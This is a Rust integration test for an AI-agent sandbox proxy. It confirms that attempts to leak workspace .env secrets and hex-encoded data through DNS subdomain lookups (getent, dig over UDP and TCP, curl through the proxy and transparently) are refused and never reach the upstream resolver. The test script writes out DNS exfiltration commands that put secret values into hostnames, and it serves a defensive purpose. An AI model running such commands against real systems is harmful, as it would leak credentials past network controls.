//! Names are content, as the agent in the real sandbox: the workspace's `.env` values and
//! an encoded label, asked through the agent's own resolver (glibc's `getent`, `dig` over UDP
//! and TCP) and through the proxy, which resolves for it (`curl` through the explicit proxy,
//! and a transparent connection with the name in its `Host`), are refused and never reach
//! the fake internet's DNS server; an ordinary name under the same wildcard does. tcpdump on
//! the veth: no DNS question for any other name left the sandbox.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use crate::common::*;

const POLICY_ZONE: &str = r#"
[sandbox]
name = "nstest"

[network]
allow = ["allowed.test", "*.zone.test"]
"#;

/// A value of no known format, short enough to look like an ordinary label.
const API_SECRET: &str = "Zq7vK2pL9xW4mN8r";
const DB_PASSWORD: &str = "hunter2-correct-horse";
/// 40 hex characters.
const HEX: &str = "68656c6c6f20776f726c6420746869732069732e";

#[test]
fn attack_workspace_values_and_encoded_labels_never_reach_the_resolver() {
    let mut world = world();
    let airlock = Airlock::new(&world, POLICY_ZONE);
    std::fs::write(
        airlock.workdir.join(".env"),
        format!("API_SECRET={API_SECRET}\nDB_PASSWORD={DB_PASSWORD}\n"),
    )
    .unwrap();
    world.start_capture().unwrap();
    let proxied = |name: &str, url: &str| {
        format!(
            "echo {name}=$(curl -s -o /dev/null -w '%{{http_code}} %header{{x-airlock-error}}' --max-time 10 {url})"
        )
    };
    let script = [
        ". ./.env".to_owned(),
        // The agent's own resolver.
        "getent hosts \"$API_SECRET.zone.test\" >/dev/null; echo getent-secret=$?".to_owned(),
        "echo dig-secret=$(dig +tries=1 +time=3 \"$(echo $API_SECRET | tr A-Z a-z).zone.test\" | grep -o 'status: [A-Z]*')".to_owned(),
        "echo dig-split=$(dig +tcp +tries=1 +time=3 hunter2.correct.horse.zone.test | grep -o 'status: [A-Z]*')".to_owned(),
        format!("echo dig-hex=$(dig +tries=1 +time=3 {HEX}.zone.test | grep -o 'status: [A-Z]*')"),
        format!("echo dig-hex-split=$(dig +tries=1 +time=3 {}.{}.{}.zone.test | grep -o 'status: [A-Z]*')", &HEX[..14], &HEX[14..28], &HEX[28..]),
        // The proxy resolving for the agent.
        proxied("curl-hex", &format!("http://{HEX}.zone.test/")),
        proxied("curl-secret", "\"http://$API_SECRET.zone.test/\""),
        // HTTPS: the refusal is spoken inside the tunnel, so curl reads its reason.
        "echo curl-https-secret=$(curl -s -o /dev/null -w '%{http_code} %header{x-airlock-error}' --max-time 10 \"https://$DB_PASSWORD.zone.test/\")".to_owned(),
        // Transparent: the name only in the Host header (no lookup by the agent).
        format!(
            "echo transparent-hex=$(env -u http_proxy -u HTTP_PROXY curl -s -o /dev/null -w '%{{http_code}} %header{{x-airlock-error}}' --max-time 10 --noproxy '*' --resolve {HEX}.zone.test:80:203.0.113.10 http://{HEX}.zone.test/)"
        ),
        // An ordinary name under the same wildcard is asked upstream (the fake zone has no
        // such name: NXDOMAIN there).
        "getent hosts cdn-eu-1.zone.test >/dev/null; echo getent-ordinary=$?".to_owned(),
        proxied("curl-ordinary", "http://cdn-eu-2.zone.test/"),
    ]
    .join("\n");
    let out = airlock
        .command(&world, &["bash", "-c", &script])
        .output()
        .unwrap();
    let capture = world.stop_capture().unwrap();
    assert_ok(&out);
    let text = stdout(&out);
    let value = |name: &str| {
        text.lines()
            .find_map(|l| l.strip_prefix(&format!("{name}=")))
            .unwrap_or_else(|| panic!("{name} did not run:\n{text}\n{}", stderr(&out)))
            .trim()
            .to_owned()
    };
    assert_eq!(
        value("getent-secret"),
        "2",
        "the name does not exist for the agent:\n{text}"
    );
    for name in ["dig-secret", "dig-split", "dig-hex", "dig-hex-split"] {
        assert_eq!(value(name), "status: NXDOMAIN", "{name}:\n{text}");
    }
    assert_eq!(value("curl-hex"), "403 dns-exfil-suspect", "{text}");
    assert_eq!(value("curl-secret"), "403 foreign-secret", "{text}");
    assert_eq!(value("curl-https-secret"), "403 foreign-secret", "{text}");
    assert_eq!(value("transparent-hex"), "403 dns-exfil-suspect", "{text}");
    assert_eq!(value("curl-ordinary"), "502 resolve-failed", "{text}");
    // What reached the fake internet's DNS server: the ordinary names only.
    let asked: Vec<String> = world
        .upstream_log()
        .unwrap()
        .into_iter()
        .filter(|l| l["kind"] == "dns")
        .map(|l| {
            l["qname"]
                .as_str()
                .unwrap()
                .trim_end_matches('.')
                .to_ascii_lowercase()
        })
        .collect();
    for name in ["cdn-eu-1.zone.test", "cdn-eu-2.zone.test"] {
        assert!(
            asked.iter().any(|a| a == name),
            "{name} was asked upstream: {asked:?}"
        );
    }
    let leaked: Vec<_> = asked
        .iter()
        .filter(|a| {
            a.contains(&API_SECRET.to_ascii_lowercase())
                || a.contains("hunter2")
                || a.contains(&HEX[..14])
        })
        .collect();
    assert!(
        leaked.is_empty(),
        "names that reached the resolver: {leaked:?}"
    );
    let audit = airlock.audit();
    let refused: Vec<_> = audit
        .iter()
        .filter(|l| l["reason"] == "foreign-secret")
        .collect();
    assert!(refused.len() >= 5, "{audit:#?}");
    assert!(
        refused
            .iter()
            .all(|l| l["rule"] == "secret detector workspace:.env"),
        "{refused:#?}"
    );
    let log = serde_json::to_string(&audit).unwrap().to_ascii_lowercase();
    assert!(
        !log.contains(&API_SECRET.to_ascii_lowercase()) && !log.contains("hunter2"),
        "a value in the audit log"
    );
    // On the wire: no DNS question but the proxy's own for names it let through.
    assert_only_proxy_traffic(
        &world,
        &capture,
        &audit,
        &["allowed.test", "cdn-eu-1.zone.test", "cdn-eu-2.zone.test"],
    );
}
